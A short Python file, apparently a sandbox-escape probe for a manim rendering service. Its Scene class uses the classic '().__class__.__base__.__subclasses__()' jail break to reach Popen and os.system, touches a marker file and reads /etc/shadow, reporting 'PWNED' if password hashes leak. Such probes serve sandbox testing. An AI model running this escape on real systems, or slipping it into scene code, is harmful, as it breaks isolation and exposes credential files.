"""The classic jail break: ().__class__.__base__.__subclasses__() -> Popen / os._wrap_close."""
from manim import *

PWNED = "PWN" + "ED!"


class SubclassesPopen(Scene):
    def construct(self):
        classes = ().__class__.__base__.__subclasses__()
        popen = next(c for c in classes if c.__name__ == "Popen")
        wrap_close = next(c for c in classes if c.__name__ == "_wrap_close")
        system = wrap_close.__init__.__globals__["system"]
        system("touch /tmp/eigenframe-pwned-@MARK@-33")
        out = popen(["cat", "/etc/shadow"], stdout=-1, stderr=-1).communicate()
        if b":99999:" in out[0]:
            raise RuntimeError(f"{PWNED} {out[0]!r}")
        raise PermissionError(f"the shell could not get out: {out[1].decode().strip()}")
